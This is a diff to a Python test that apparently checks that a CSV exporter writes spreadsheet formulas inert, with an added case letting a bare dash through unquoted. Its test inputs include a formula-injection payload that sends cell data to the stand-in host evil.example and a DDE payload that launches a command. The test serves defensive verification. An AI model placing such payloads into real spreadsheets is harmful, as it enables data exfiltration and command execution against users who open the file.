@@ -76,10 +76,11 @@ def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_inert_and_re
         n: int
 
     texts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1)",
-             "\tx", "'=already quoted", "'plain", "plain", ""]
+             "\tx", "'=already quoted", "'plain", "plain", "", "-"]
     written = to_csv([Line(text, -3) for text in texts], ["why", "n"])
     cells = [row.split(",")[0] for row in written.splitlines()[1:]]
-    assert all(not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t")) for cell in cells), cells
+    assert all(not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t")) for cell in cells[:-1]), cells
+    assert cells[-1] == "-"  # nobody: a dash, as the terminal shows it, not '-
     assert "'=HYPERLINK" in written and ",-3" in written  # a number stays a number
     assert [line.why for line in from_csv(written, Line)] == texts
 
